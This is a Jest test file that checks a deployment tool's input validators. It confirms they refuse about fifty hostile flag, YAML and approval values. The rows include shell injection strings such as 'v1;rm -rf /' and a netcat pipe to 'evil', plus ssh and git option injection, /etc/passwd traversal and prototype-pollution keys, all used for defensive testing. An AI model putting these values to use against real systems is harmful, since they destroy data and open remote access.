/**
 * Hostile input, table-driven: what an attacker (or a slip) can put in deployctl's flags, an
 * environment's YAML, and an approval's argument (the same argument the Web UI's dialogs, the
 * CLI and the Updates' validators read). Every row is refused by the validator that guards that
 * surface, before anything runs, with a message that names the field and the rule (and the value
 * where it can be shown). Each validator is pure: nothing else happens on refusal. What the
 * refusals look like end to end (exit 2, nothing started, nothing in history) is tested where the
 * process and Temporal are real: tests/workflow/hostileInput.test.ts (a row per surface, with the
 * history, workflows and schedules compared before and after), tests/workflow/uiApproval.test.ts,
 * tests/integration/deploy.test.ts, tests/integration/pipeline.test.ts.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse, stringify } from 'yaml';
import { parseDecision } from '../../src/client/decision';
import { parseBackupId, parseEnvFlag, parseSeconds } from '../../src/client/operationInput';
import { parseEnvironment } from '../../src/config/load';
import { parseDeployRequest, requestFlagName } from '../../src/config/request';
import { strictDecisionFrom, unknownDecisionKeys } from '../../src/workflows/deploy/decisionInput';

const FIXTURE = readFileSync(join(__dirname, '..', 'fixtures', 'environments', 'staging.yaml'), 'utf8');

type Row = [surface: string, input: string, attempt: () => unknown, expected: RegExp];

function refusal(attempt: () => unknown): string {
  let result: unknown;
  try {
    result = attempt();
  } catch (err) {
    return (err as Error).message;
  }
  // The approval validator answers instead of throwing.
  if (result && typeof result === 'object' && 'ignored' in result) return String(result.ignored);
  throw new Error(`accepted: ${JSON.stringify(result)}`);
}

const GOOD_REQUEST = {
  environment: 'staging',
  release: 'v1.2.3',
  images: { site: 'v1.2.3' },
  requestedBy: 'ci',
};
const deploy = (change: Record<string, unknown>) => () =>
  parseDeployRequest({ ...GOOD_REQUEST, ...change }, 'deployctl deploy', requestFlagName);

const flagRows: Row[] = [
  ['--env', 'shell substitution', () => parseEnvFlag('$(reboot)'), /--env: value "\$\(reboot\)"/],
  ['--env', 'path traversal', () => parseEnvFlag('../prod'), /--env: value "\.\.\/prod"/],
  ['--env', 'NUL byte', () => parseEnvFlag('prod\u0000'), /--env: value "prod\\u0000"/],
  ['--env', 'empty', () => parseEnvFlag(''), /--env: value ""/],
  ['--env', 'upper case and space', () => parseEnvFlag('Prod X'), /--env: value "Prod X"/],
  ['--release', 'command separator', deploy({ release: 'v1;rm -rf /' }), /--release.*v1;rm -rf \//],
  ['--release', 'backticks', deploy({ release: '`id`' }), /--release.*`id`/],
  ['--release', 'newline', deploy({ release: 'v1\nv2' }), /--release/],
  ['--release', '300 characters', deploy({ release: 'v'.repeat(300) }), /--release/],
  ['--image', 'tag with a pipe', deploy({ images: { site: 'v1|nc evil 4444' } }), /--image site=/],
  [
    '--image',
    'service with a slash',
    deploy({ images: { '../site': 'v1' } }),
    /--image \.\.\/site=: the key "\.\.\/site" must be lowercase/,
  ],
  ['--image', 'reference with a space', deploy({ images: { site: 'ghcr.io/x y:1' } }), /--image site=/],
  ['--image', 'no image at all', deploy({ images: {} }), /--image.*at least one service image/],
  ['--by', 'dollar and braces', deploy({ requestedBy: '${HOME}' }), /--by.*\$\{HOME\}/],
  ['--by', 'a NUL byte', deploy({ requestedBy: 'ops\u0000root' }), /--by/],
  ['--commit', 'dot-dot', deploy({ commit: 'main/../../etc' }), /--commit.*must not contain "\.\."/],
  ['--commit', 'option injection', deploy({ commit: '--upload-pack=evil' }), /--commit.*git sha or tag/],
  ['--on-busy', 'unknown value', deploy({ onBusy: 'steal' }), /--on-busy/],
  ['--strategy', 'unknown value', deploy({ strategy: 'yolo' }), /--strategy/],
  ['--to', 'without a rollback', deploy({ rollbackTo: 'v1' }), /--to.*only allowed in a rollback/],
  [
    '(request)',
    'an unknown key',
    deploy({ shell: 'bash' }),
    /\(request\): unknown key\(s\) "shell" are not allowed/,
  ],
  [
    '--timeout',
    'negative',
    () => parseSeconds('--timeout', '-5'),
    /--timeout: value "-5" must be a whole number/,
  ],
  ['--timeout', 'exponent', () => parseSeconds('--timeout', '1e9'), /--timeout: value "1e9"/],
  [
    '--timeout',
    'beyond a year',
    () => parseSeconds('--timeout', '99999999999'),
    /--timeout: value "99999999999"/,
  ],
  [
    '--backup',
    'path traversal',
    () => parseBackupId('staging-../../etc/passwd', 'staging'),
    /--backup: value/,
  ],
  [
    '--backup',
    "another environment's",
    () => parseBackupId('prod-20261201', 'staging'),
    /must be a backup of staging/,
  ],
  [
    '--by (approve)',
    'over 64 characters',
    () => parseDecision('approve', { by: 'a'.repeat(65), env: 'staging', release: 'v1' }),
    /--by: value "a+\.\.\." \(65 characters\) must be a user name of at most 64 characters/,
  ],
  [
    '--by (approve)',
    'a quote',
    () => parseDecision('approve', { by: 'o"brien', env: 'staging', release: 'v1' }),
    /--by: value "o\\"brien"/,
  ],
  [
    '--comment (abort)',
    '501 characters',
    () => parseDecision('abort', { by: 'ops', text: 'x'.repeat(501), env: 'staging', release: 'v1' }),
    /must be at most 500 characters/,
  ],
  [
    '--id (approve)',
    'an escape sequence',
    () => parseDecision('approve', { by: 'ops', id: 'deploy-\u001b[2J' }),
    /--id: value .* must be a workflow id of 1 to 255 printable characters/,
  ],
];

/** The fixture environment with one key changed (path: keys and indexes), as YAML. */
function yamlWith(path: (string | number)[], value: unknown): string {
  const doc = parse(FIXTURE) as Record<string, unknown>;
  let at: Record<string | number, unknown> = doc;
  for (const key of path.slice(0, -1)) at = at[key] as Record<string | number, unknown>;
  at[path[path.length - 1]] = value;
  return stringify(doc);
}
const env = (path: (string | number)[], value: unknown) => () =>
  parseEnvironment(yamlWith(path, value), 'staging.yaml', 'staging');

const yamlRows: Row[] = [
  ['project', 'shell substitution', env(['project'], '$(id)'), /project: value "\$\(id\)"/],
  ['project', 'upper case', env(['project'], 'Shop'), /project: value "Shop"/],
  [
    'hosts[0].address',
    'a command after the host',
    env(['hosts', 0, 'address'], 'web-1;id'),
    /hosts\.0\.address: value "web-1;id" must be a hostname or IP address/,
  ],
  [
    'hosts[0].address',
    'an ssh option',
    env(['hosts', 0, 'address'], '-oProxyCommand=id'),
    /hosts\.0\.address: value "-oProxyCommand=id" must be a hostname or IP address/,
  ],
  ['hosts[0].port', 'out of range', env(['hosts', 0, 'port'], 70000), /hosts\.0\.port: value 70000 .*65535/],
  [
    'hosts[0].user',
    'a space and a command',
    env(['hosts', 0, 'user'], 'deploy whoami'),
    /hosts\.0\.user: value "deploy whoami" must be a valid Unix user name/,
  ],
  [
    'hosts[0].baseDir',
    'relative',
    env(['hosts', 0, 'baseDir'], 'srv/apps'),
    /hosts\.0\.baseDir: value "srv\/apps" must be an absolute path/,
  ],
  [
    'hosts[0].baseDir',
    'dot-dot',
    env(['hosts', 0, 'baseDir'], '/srv/../etc'),
    /hosts\.0\.baseDir: value "\/srv\/\.\.\/etc" must not contain "\.\." segments/,
  ],
  [
    'hosts[0].baseDir',
    'a quote',
    env(['hosts', 0, 'baseDir'], "/srv/it's"),
    /hosts\.0\.baseDir: value "\/srv\/it's" must be an absolute path of letters/,
  ],
  [
    'hosts[0].hostKey',
    'not a key',
    env(['hosts', 0, 'hostKey'], 'ssh-ed25519 $(id)'),
    /hosts\.0\.hostKey: value "ssh-ed25519 \$\(id\)" must be a public host key/,
  ],
  [
    'services[0].name',
    'a slash',
    env(['services', 0, 'name'], 'site/../api'),
    /services\.0\.name: value "site\/\.\.\/api" must be lowercase/,
  ],
  [
    'services[0].image',
    'a semicolon',
    env(['services', 0, 'image'], 'ghcr.io/acme/site;id'),
    /services\.0\.image: value "ghcr\.io\/acme\/site;id" must be a lowercase registry/,
  ],
  [
    'composeFiles[0]',
    'outside the checkout',
    env(['composeFiles', 0], '../../etc/passwd'),
    /composeFiles\.0: value "\.\.\/\.\.\/etc\/passwd" must be a relative/,
  ],
  [
    'composeFiles[0]',
    'absolute',
    env(['composeFiles', 0], '/etc/passwd'),
    /composeFiles\.0: value "\/etc\/passwd" must be a relative/,
  ],
  [
    'env',
    'a key with a space',
    env(['env'], { 'BAD KEY': 'x' }),
    /env\.BAD KEY: the key "BAD KEY" must be uppercase/,
  ],
  [
    'env',
    'a value with a newline',
    env(['env'], { BIND_ADDRESS: '0.0.0.0\nEVIL=1' }),
    /env\.BIND_ADDRESS: value "0\.0\.0\.0\\nEVIL=1" must be a single line/,
  ],
  [
    'secrets',
    'a plain string',
    env(['secrets'], { DB_PASSWORD: 'hunter22' }),
    /^(?![\s\S]*hunter22)[\s\S]*secrets\.DB_PASSWORD: must say where the worker reads the secret: \{fromEnv: VARIABLE\}.*\(the value given is not shown/,
  ],
  [
    'secrets',
    'a variable name with a dollar',
    env(['secrets'], { DB_PASSWORD: { fromEnv: '$X' } }),
    /secrets\.DB_PASSWORD/,
  ],
  [
    'composeCommand',
    'a shell',
    env(['composeCommand'], ['sh', '-c', 'id']),
    /composeCommand\.1: value "-c" must be a plain command word/,
  ],
  [
    'name',
    'another environment',
    env(['name'], 'production'),
    /name: value "production" must equal the file name "staging"/,
  ],
  ['(file)', 'an unknown key', env(['shell'], 'bash'), /\(root\): unknown key\(s\) "shell" are not allowed/],
];

const updateRows: Row[] = [
  [
    'approve argument',
    'not an object',
    () => strictDecisionFrom('approve', 'yes' as never),
    /argument must be \{"by"/,
  ],
  ['approve argument', 'null', () => strictDecisionFrom('approve', null as never), /argument must be \{"by"/],
  [
    'approve argument',
    'an array',
    () => strictDecisionFrom('approve', [] as never),
    /argument must be \{"by"/,
  ],
  [
    'approve argument',
    '"by" a number',
    () => strictDecisionFrom('approve', { by: 7 } as never),
    /argument must be \{"by"/,
  ],
  [
    'approve argument',
    '"by" empty',
    () => strictDecisionFrom('approve', { by: '' }),
    /argument must be \{"by"/,
  ],
  [
    'approve argument',
    '"by" with a NUL',
    () => strictDecisionFrom('approve', { by: 'a\u0000b' }),
    /"by" "a\\u0000b" must be a user name/,
  ],
  [
    'approve argument',
    '"by" HTML',
    () => strictDecisionFrom('approve', { by: '<script>' }),
    /"by" "<script>" must be a user name/,
  ],
  [
    'abort argument',
    '"by" 65 characters',
    () => strictDecisionFrom('abort', { by: 'b'.repeat(65) }),
    /"by" "b{65}" must be a user name/,
  ],
  [
    'abort argument',
    'a comment with an escape sequence',
    () => strictDecisionFrom('abort', { by: 'ops', comment: 'ok\u001b[31m' }),
    /"comment" must be text of at most 500 characters without control characters/,
  ],
  [
    'approve argument',
    'a comment of 501 characters',
    () => strictDecisionFrom('approve', { by: 'ops', comment: 'c'.repeat(501) }),
    /"comment" must be text of at most 500 characters/,
  ],
  [
    'approve argument',
    'a comment that is an object',
    () => strictDecisionFrom('approve', { by: 'ops', comment: { $gt: '' } } as never),
    /"comment" must be text/,
  ],
];

/** The Updates' validators also refuse keys a decision does not have. */
const validatorKeys = (name: string, input: unknown) => () => {
  const refusal = unknownDecisionKeys(name, input);
  if (refusal) throw new Error(refusal);
  return strictDecisionFrom(name, input as never);
};
updateRows.push(
  [
    'approve Update argument',
    'a key to smuggle a command',
    validatorKeys('approve', { by: 'ops', run: '$(id)' }),
    /approve: unknown key\(s\) "run" are not allowed/,
  ],
  [
    'abort Update argument',
    'a prototype key',
    validatorKeys('abort', JSON.parse('{"by": "ops", "__proto__": {"admin": true}}')),
    /abort: unknown key\(s\) "__proto__" are not allowed/,
  ],
);

const rows = [...flagRows, ...yamlRows, ...updateRows];

test('at least 50 hostile inputs across flags, environment YAML and approval arguments', () => {
  expect(rows.length).toBeGreaterThanOrEqual(50);
});

test.each(rows)('%s: %s is refused, naming the field and the rule', (_surface, _input, attempt, expected) => {
  const message = refusal(attempt);
  expect(message).toMatch(expected);
});
